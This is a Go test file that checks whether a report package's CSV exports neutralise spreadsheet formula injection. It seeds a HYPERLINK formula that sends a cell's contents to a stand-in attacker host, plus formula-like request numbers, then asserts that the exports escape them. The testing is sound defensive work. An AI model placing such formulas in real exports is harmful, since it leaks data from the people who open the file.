package report_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/issuer-dev/issuer/intake"
	"github.com/issuer-dev/issuer/internal/dbtest"
	"github.com/issuer-dev/issuer/internal/excelcsv"
	"github.com/issuer-dev/issuer/report"
)

// hostileName is a batch name a spreadsheet would run as a formula.
const hostileName = `=HYPERLINK("http://evil.example/?x="&A2,"Click")`

// The reports' CSV never hands a spreadsheet a formula: a hostile batch
// name or out_request_no comes out behind a quote, in
// the Excel form and the plain one alike, and a program reads the values
// back exactly.
func TestReportCSVFormulas(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := dbtest.New(t).DB
	loc, err := time.LoadLocation("Asia/Shanghai")
	require.NoError(t, err)
	b := &testBundle{db: db, loc: loc}
	rep, err := intake.Import(ctx, db, strings.NewReader("openid,out_request_no\noHostile1,-A1*1000\noHostile2,A1-2\n"), intake.Options{
		StockID: stock, Kind: "favor", Name: hostileName, MchID: "1900000109", AppID: "wx233544546545989", Source: "evil.csv",
	})
	require.NoError(t, err)
	_, err = db.Exec(`UPDATE recipients SET status = 'failed', outcome = 'user_limited', attempts = 1, wx_code = 'REQUEST_BLOCKED',
		last_attempt_at = '2020-03-10 10:00:03+08' WHERE openid = 'oHostile2'`)
	require.NoError(t, err)

	rec := reconciliation(t, db, b.opts(""))
	batch := batchReport(t, db, rep.BatchID, b.opts(""))
	checkGolden(t, "formula_reconcile.csv", render(t, rec, report.CSV))
	checkGolden(t, "formula_batch.csv", render(t, batch, report.CSV))

	for name, out := range map[string]string{
		"reconcile": render(t, rec, report.CSV), "batch": render(t, batch, report.CSV),
		"reconcile plain": plainCSV(t, rec), "batch plain": plainCSV(t, batch),
	} {
		requireNoFormula(t, name, out)
		recs, err := excelcsv.ReadAll(strings.NewReader(out))
		require.NoError(t, err)
		all := strings.Join(flatten(recs), "\x00")
		if strings.HasPrefix(name, "batch") {
			require.Contains(t, all, "\x00-A1*1000\x00", name)
		} else {
			require.Contains(t, all, "\x00"+hostileName+"\x00", name)
		}
	}
}

func plainCSV(t *testing.T, r *report.Report) string {
	t.Helper()
	var sb strings.Builder
	require.NoError(t, r.WritePlainCSV(context.Background(), &sb))
	return sb.String()
}

// requireNoFormula fails when a cell of the CSV out begins as a formula
// does (a plain negative number is a number, not a formula).
func requireNoFormula(t *testing.T, name, out string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, excelcsv.BOM))).ReadAll()
	require.NoError(t, err, name)
	for _, rec := range recs {
		for _, cell := range rec {
			if cell == "" || !strings.ContainsRune("=+-@\r\n", rune(cell[0])) {
				continue
			}
			require.Regexp(t, `^-[0-9]+(\.[0-9]+)?$`, cell, "%s: a cell a spreadsheet would run", name)
		}
	}
}

func flatten(recs [][]string) []string {
	out := []string{""}
	for _, r := range recs {
		out = append(out, r...)
	}
	return append(out, "")
}
